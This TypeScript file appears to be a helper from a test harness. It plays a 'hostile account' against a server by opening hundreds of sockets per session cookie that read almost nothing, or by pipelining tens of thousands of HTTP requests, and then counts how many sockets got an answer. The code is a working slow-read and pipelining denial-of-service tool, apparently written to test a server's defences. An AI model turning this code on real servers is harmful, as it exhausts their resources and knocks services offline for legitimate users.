// One hostile account: opens sockets, sends what its ATTACK says, and takes as little as it likes of what comes back.
// Prints how many sockets got an answer, then stays until standard input ends.
import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'

const { TARGET = '', COOKIES = '[]', ATTACK = '' } = process.env
const { hostname, port, pathname, host } = new URL(TARGET)
const cookies = JSON.parse(COOKIES) as string[]
const SETTLE_MS = 1500
const PIPELINED = 70_000

let answered = 0

const bytesOf = (cookie: string): string =>
  `GET ${pathname} HTTP/1.1\r\nHost: ${host}\r\nCookie: ${cookie}\r\nSec-Fetch-Site: same-origin\r\n\r\n`

function open(): Socket {
  const socket = connect(Number(port), hostname)
  socket.on('error', () => socket.destroy())
  socket.once('data', () => {
    answered++
  })
  return socket
}

/** Takes the head of its answer and nothing more. */
function readNothing(cookie: string): void {
  const socket = open()
  socket.once('data', () => socket.pause())
  socket.write(bytesOf(cookie))
}

/** Writes as fast as it can. `reads`: takes the answers too, so that it is never slowed down by its own. */
function pipeline(cookie: string, reads: boolean): void {
  const socket = open()
  if (reads) socket.resume()
  else socket.pause()
  const some = Buffer.from(bytesOf(cookie).repeat(100), 'latin1')
  let sent = 0
  const more = (): void => {
    while (sent < PIPELINED && !socket.destroyed) {
      sent += 100
      if (!socket.write(some)) return void socket.once('drain', more)
    }
  }
  more()
}

/** How many sockets of each session read nothing. */
const READERS: Readonly<Record<string, number>> = {
  'slow-readers': 160,
  'paused-downloads': 64,
  'many-servers': 1,
  'plain-sockets': 256
}

const readers = READERS[ATTACK]
if (readers === undefined) pipeline(cookies[0] ?? '', ATTACK === 'pipelining-read')
else for (const cookie of cookies) for (let i = 0; i < readers; i++) readNothing(cookie)

await sleep(SETTLE_MS)
console.log(JSON.stringify({ answered }))
process.stdin.resume()
process.stdin.on('end', () => process.exit(0))
